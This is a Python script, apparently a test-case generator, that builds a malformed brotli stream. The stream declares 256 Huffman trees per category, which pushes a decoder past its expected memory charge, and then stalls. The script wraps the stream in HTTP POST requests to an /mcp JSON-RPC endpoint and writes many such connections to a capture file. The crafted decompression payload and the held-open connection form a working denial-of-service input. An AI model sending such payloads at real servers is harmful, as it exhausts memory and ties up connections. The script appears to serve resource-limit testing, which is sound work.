# Candidate F: brotli decoder charged as window + 64 KiB, but a stream can declare 256 literal,
# 256 insert-and-copy and 256 distance trees: the decoder allocates their tables (~1.2 MiB)
# as soon as the context maps are read; the body then stalls (connection left open).
import sys,random,json; sys.path.insert(0, __import__('os').path.dirname(__file__)); from pc import *
random.seed(6); out,N,mode=sys.argv[1],int(sys.argv[2]),sys.argv[3]
class BW:
    def __init__(s): s.v=0; s.n=0
    def w(s,val,bits): s.v|=(val&((1<<bits)-1))<<s.n; s.n+=bits
    def bytes(s): return s.v.to_bytes((s.n+7)//8,'little')
def varlen8(b,x):
    if x==0: b.w(0,1); return
    if x==1: b.w(1,1); b.w(0,3); return
    n=x.bit_length()-1; b.w(1,1); b.w(n,3); b.w(x-(1<<n),n)
def simple1(b,alpha,sym=0):
    b.w(1,2); b.w(0,2); b.w(sym,(alpha-1).bit_length())
def stalled():
    b=BW()
    b.w(1,1); b.w(0,3); b.w(2,3)           # WBITS=10 (1 KiB window)
    b.w(0,1); b.w(0,2); b.w(0xFFFF,16); b.w(0,1)   # not last, MLEN 65536, compressed
    varlen8(b,0)                            # NBLTYPESL=1
    varlen8(b,255)                          # NBLTYPESI=256 -> 256 insert&copy trees
    simple1(b,258); simple1(b,26); b.w(0,2) # block type code, block count code, count
    varlen8(b,0)                            # NBLTYPESD=1
    b.w(3,2); b.w(15,4)                     # NPOSTFIX=3 NDIRECT=120 -> distance alphabet 520
    b.w(0,2)                                # context mode
    varlen8(b,255); b.w(0,1); simple1(b,256); b.w(0,1)   # NTREESL=256, map all 0, no IMTF
    varlen8(b,255); b.w(0,1); simple1(b,256); b.w(0,1)   # NTREESD=256
    b.w(1,2); b.w(3,2)  # first literal tree: simple, 4 symbols... then stall (symbols never come)
    return b.bytes()
P_=stalled() if mode!='ctl' else b'\x21'   # ctl: a stream that stalls after its window byte
body=json.dumps({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"x"}}).encode()
p=P(out)
for c in range(N):
    k=Conn(p,c)
    k.c2s(b'POST /mcp HTTP/1.1\r\nHost: s\r\nContent-Type: application/json\r\nContent-Encoding: br\r\nContent-Length: 100000\r\n\r\n'+P_)
    k.s2c(b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: br\r\nContent-Length: 100000\r\n\r\n'+P_)
    k.ack()
p.close()
